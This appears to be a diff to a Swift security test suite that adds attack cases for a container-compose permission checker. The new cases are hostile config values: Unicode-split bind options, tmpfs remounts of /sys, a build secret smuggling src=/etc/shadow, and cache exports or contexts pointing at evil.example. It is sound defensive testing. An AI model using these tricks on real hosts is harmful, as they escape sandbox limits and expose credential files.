@@ -174,6 +174,27 @@ extension Attack {
     Attack(
       "another pod's volume", ["volumes.external"], needs: .volumes, line: 6,
       "volumes: [\"vol:/x\"]", top: "volumes:\n  vol: {external: true, name: other}\n"),
+    Attack(
+      "a link whose slash is part of a character", needs: nil,
+      "volumes: [\"./S\u{600}/dir:/x\"]", links: ["S\u{600}": "{outside}"]),
+    Attack(
+      "a volume whose bind is part of a character", needs: nil, line: 6, "volumes: [\"vol:/x\"]",
+      top:
+        "volumes:\n  vol: {driver_opts: {type: tmpfs, device: /etc, o: \"size=1\u{600},bind\"}}\n"
+    ),
+    Attack(
+      "a tmpfs volume that binds", needs: .volumeDrivers, line: 6, "volumes: [\"vol:/x\"]",
+      top: "volumes:\n  vol: {driver_opts: {device: /etc, o: \"size=1,bind\"}}\n",
+      permitted: [.volumeDrivers: .only([])]),
+    Attack(
+      "the kernel's files mounted anew", needs: .privileged, "tmpfs: [\"/sys/.:remount,rw\"]"),
+    Attack(
+      "a tmpfs over another mount", needs: .privileged, line: 5,
+      "volumes: [\"./data:/x\"]\ntmpfs: [\"/x/.:size=1m\"]"),
+    Attack("a tmpfs with devices", needs: .privileged, "tmpfs: [\"/x:dev\"]"),
+    Attack(
+      "a directory that may only be read", needs: .bindMounts, "volumes: [\"{outside}/dir:/x\"]",
+      permitted: [.bindMounts: .only(["{outside}:ro"])]),
   ]
 
   private static let build: [Permission: PodPolicy.Allowed] = [.build: .only(["local", "tags"])]
@@ -269,6 +290,21 @@ extension Attack {
     Attack(
       "another name for what is built", ["build.tags"], needs: .build,
       "build: {context: ., tags: [nginx]}", permitted: [.build: .only(["local"])]),
+    Attack(
+      "a cache with two names", needs: nil,
+      "build: {context: ., cache_to: [\"type=registry,ref=docker.io/x,ref=evil.example/y\"]}",
+      permitted: build.merging([.build: .everything]) { $1 }),
+    Attack(
+      "a cache with a name in capitals", needs: nil,
+      "build: {context: ., cache_to: [\"type=registry,REF=evil.example/y\"]}",
+      permitted: build.merging([.build: .everything]) { $1 }),
+    Attack(
+      "a context's name that is more than a name", needs: nil,
+      "build: {context: ., additional_contexts: {\"x=https://evil.example/c?q\": ./ok}}",
+      permitted: build),
+    Attack(
+      "a build's secret with a hidden comma", needs: nil, "build: {context: ., secrets: [s]}",
+      top: "secrets: {s: {file: \"./ok\u{600},src=/etc/shadow\"}}\n", permitted: build),
     Attack(
       "a generator of another host", needs: .build,
       "build: {context: ., sbom: \"generator=evil.example/x\"}", permitted: build),
